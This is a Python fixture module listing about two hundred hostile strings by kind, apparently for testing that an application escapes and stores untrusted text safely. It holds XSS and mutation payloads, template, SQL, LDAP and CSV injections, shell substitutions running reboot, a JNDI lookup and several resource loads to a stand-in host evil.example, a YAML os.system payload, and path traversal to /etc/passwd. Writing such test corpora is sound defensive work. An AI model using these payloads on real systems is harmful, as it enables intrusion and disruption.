"""Two hundred hostile strings: what people, machines and attackers have put into text fields, by kind.

Each is distinct, ends in a code word of its own (so that it can be found on a page, and is no part of another), and is
nothing that redaction masks. What would run, sets `window.pwned`; what would become an element, is an <x-pwn>.
"""

from collections.abc import Iterable

_RUN = "window.pwned=1"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<script\n>{_RUN}</script\n>",
    f"</script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>",
    f"<script>{_RUN}//",
    '<noscript><p title="</noscript><x-pwn></x-pwn>">',
    "<template><x-pwn></template><x-pwn>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "<object data=//evil.example/x></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=q><button>Sign in",
    "<x-pwn>an element</x-pwn>",
    "</p></div></main></body></html><x-pwn>",
    "<plaintext><x-pwn>",
    "<textarea><x-pwn></textarea><x-pwn>",
    "</textarea><x-pwn>",
    "</title><x-pwn>",
    "</option></select><x-pwn>",
)
HANDLERS = (
    f"<img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}"',
    f"<img/src/onerror={_RUN}>",
    "<img src='//evil.example/p.gif'>",
    "<img srcset='//evil.example/p.gif a'>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src onloadstart={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<x-pwn onclick={_RUN} tabindex=a autofocus onfocus={_RUN}>",
    f"<div onpointerenter={_RUN} style=position:fixed;inset:auto>over</div>",
    f"<button popovertarget=rail onbeforetoggle={_RUN}>menu</button>",
    f"<style onload={_RUN}></style>",
    f"<a href=# onmouseover={_RUN}>over me</a>",
)
SVG_AND_MATHML = (
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=a>click</text></a></svg>",
    "<svg><foreignObject><x-pwn></foreignObject></svg>",
    "<svg><use href=//evil.example/x.svg#a></svg>",
    "<svg><style><!--</style><x-pwn>--></svg>",
    '<svg></p><style><g title="</style><x-pwn>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={_RUN}>">',
    "<math><annotation-xml encoding=text/html><x-pwn></annotation-xml></math>",
    f"<math href=javascript:{_RUN}>click</math>",
    "<form><math><mtext></form><form><mglyph><style></math><x-pwn>",
    "<table><td><x-pwn></table><tr><td><x-pwn>",
)
ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}",
    f" onmouseover={_RUN} ",
    '"><x-pwn>',
    "'><x-pwn>",
    '\\"><x-pwn>',
    "&quot;><x-pwn>",
    f'" autofocus onfocus="{_RUN}" x="',
    '" style="position:fixed;inset:auto" x="',
    '" id="main" class="visually-hidden',
    '" href="//evil.example/" x="',
    '" formaction="//evil.example/" x="',
    '" data-key="t" data-open data-row x="',
    '" hidden disabled readonly inert x="',
    'x\ty\tz" checked',
    "\"'`=<>&",
)
TEMPLATES = (
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    '{% include "base.html" %}',
    "{# a comment {% endcomment %} #}",
    "{{ request.user.password|safe }}",
    "{{ ''.__class__.__mro__ }}",
    "${window.pwned=1}",
    "<%= window.pwned=1 %>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<div ng-app>{{$on.constructor('window.pwned=1')()}}</div>",
    '<p v-html="\'<x-pwn>\'" v-on:click="window.pwned=1">',
    '<div x-data x-init="window.pwned=1">',
    '<div hx-get="//evil.example/" hx-trigger="load">',
    '<div hx-on::load="window.pwned=1" data-hx-get=/sign-out/ data-hx-trigger=load>',
    '" hx-post="/queue/release-mine/" hx-trigger="load" x="',
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "</style><style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/p.gif)">',
    '" style="background:url(javascript:window.pwned=1)',
    "expression(window.pwned=1)",
    "@import url(//evil.example/x.css);",
    "}*{display:none}{",
    '<div class="visually-hidden" id="problem" role="alert">',
)
URLS = (
    "javascript:window.pwned=1//",
    "JaVaScRiPt:window.pwned=1//",
    "java\tscript:window.pwned=1//",
    "java\nscript:window.pwned=1//",
    " javascript:window.pwned=1//",
    "\x01javascript:window.pwned=1//",
    "javascript&colon;window.pwned=1//",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base,PHNjcmlwdD4",
    "vbscript:msgbox(window.pwned)",
    "//evil.example/",
    "https://evil.example\\/",
    "/\\evil.example/",
    "tel:javascript:window.pwned=1",
)
ENTITIES = (
    "&lt;x-pwn&gt;",
    "&#x3c;x-pwn&#x3e;",
    "&#60;x-pwn&#62;",
    "&amp;lt;x-pwn&amp;gt;",
    "&notanentity; &copy &nbsp &zwnj;",
    "&#x0; &#xD800; &#xFFFFFF;",
    "\\u003cx-pwn\\u003e",
    "\\x3cx-pwn\\x3e",
    "%3Cx-pwn%3E",
    "+ADw-x-pwn+AD4-",
    "\uff1cx-pwn\uff1e",
)
COMMENTS = (
    "<!-- a comment",
    "<!--><x-pwn>-->",
    "<!--[if gte IE]><x-pwn><![endif]-->",
    "--><x-pwn>",
    "--!><x-pwn>",
    "<![CDATA[<x-pwn>]]>",
    "]]><x-pwn>",
    "<?xml version='one'?><x-pwn>",
    "<!DOCTYPE html><x-pwn>",
)
# Each kind of control that reorders text, left open.
BIDI = (
    "safe \u202egnp.exe",
    "safe \u202dover",
    "safe \u202bembed",
    "safe \u202aembed",
    "safe \u2067isolate",
    "safe \u2066isolate",
    "safe \u2068isolate",
    "safe \u2069\u202epop first",
    "safe \u202c\u2069\u202eboth",
    "\u202e\u202e\u202e\u2067\u2067deep",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 (name)",
    "\u05e9\u05dc\u05d5\u05dd: <x-pwn>",
    "\u200f\u200e\u061cmarks",
)
UNICODE = (
    "zero\u200bwidth\u200c\u200djoined\u2060\ufeff",
    "soft\u00adhyphen",
    "\u0430\u0440\u0440\u04cf\u0435",
    "Z\u0351\u036b\u0343a\u0329\u0320\u0300l\u0334\u0357g\u0321\u035bo\u0321\u034b\u0325",
    "x" + "\u0336\u0301" * 30,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e007f",
    "\U00020000\U0002f800\U0010ffff",
    "\ufffe\uffff\ufdd0",
    "\ufffd\ufffc",
    "\ue000\uf8ff",
    "\u2028line\u2029paragraph",
    "\u0130\u0131\u017f\u212a\u1e9e\ufb01",
    "\u01c5\u0345\u0390",
    "\u3164\u115f\u1160\u2800",
    "\U000e0001\U000e0078\U000e002d\U000e0070 tags",
    "\u180e\ufe0f\U000e0100 selectors",
)
CONTROLS = (
    "nul\x00<\x00x-pwn\x00>",
    "bell\x07 back\x08space",
    "escape\x1b[red\x1b[m\x1b]a;title\x07",
    "\x1b[Aup\x1b[Kclear",
    "form\x0cfeed vertical\x0btab",
    "delete\x7f",
    "c-one \x80\x85\x9b\x9f",
    "one\r\ntwo\rthree\nfour\u0085five",
    "X-Evil: a\r\nLocation: //evil.example/",
    "lines\n\n\n\n\nlines",
    "tab\tseparated\t",
    "\x01\x02\x03\x04\x05\x06\x0e\x0f",
)
# Halves of a pair, as broken writers leave them in JSON; `storable` has what a DynamoDB text can hold of them.
SURROGATES = (
    "high \ud800 alone",
    "low \udc00 alone",
    "\udfff\ud83d wrong way",
    "\ud83d<x-pwn>\ude00",
)
INJECTIONS = (
    "=cmd|'/C calc'!A",
    "+SUM(A:A)",
    '\t=IMPORTXML("//evil.example/")',
    "'; DROP TABLE conversations; --",
    "' OR ''='",
    '{"$ne": null}',
    '{"S": {"__type": "x"}}',
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "$(reboot)`reboot`;reboot|reboot&&reboot",
    "${jndi:ldap://evil.example/x}",
    "%s%n%x{}{name!r}%(x)s",
    "__proto__ constructor prototype",
    "null undefined NaN true [object Object]",
    '"}],"x":[{"',
    '{"a":"\\ud800"}',
    '</script>{"a": 1}<!--',
    "!!python/object/apply:os.system [reboot]",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=window.pwned=1//>\\x3e",
    '\'">><marquee><x-pwn onload=window.pwned=1></marquee>"></plaintext\\></|\\><plaintext/onmouseover=window.pwned=1>',
    "\"]'}))--></script></style></title></textarea><x-pwn>{{a}}{%b%}",
    "<<<<<<>>>>>>&&&&&&\"\"\"\"''''````",
    "W" * 300,
    "\u0645" * 200,
)
KINDS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "svg and mathml": SVG_AND_MATHML,
    "attributes": ATTRIBUTES,
    "templates": TEMPLATES,
    "styles": STYLES,
    "urls": URLS,
    "entities": ENTITIES,
    "comments": COMMENTS,
    "bidi": BIDI,
    "unicode": UNICODE,
    "controls": CONTROLS,
    "surrogates": SURROGATES,
    "injections": INJECTIONS,
    "polyglots": POLYGLOTS,
}
LONG_WORD = "M" * 5000


def code_word(number: int) -> str:
    """A word that occurs nowhere else, the last of the string of that number."""
    first, last = divmod(number, 20)
    return f"q{'bcdfghjklm'[first]}{'bcdfghjklmnpqrstvwxz'[last]}q"


STRINGS = tuple(
    f"{text} {code_word(number)}" for number, text in enumerate(text for kind in KINDS.values() for text in kind)
)


def storable(text: str) -> str:
    """What a writer can store of a string as a DynamoDB text: UTF-8 has no halves of pairs."""
    return text.encode("utf-8", "replace").decode()


def joined(strings: Iterable[str]) -> str:
    """Several in one text, each on its own side of a bar."""
    return " | ".join(strings)
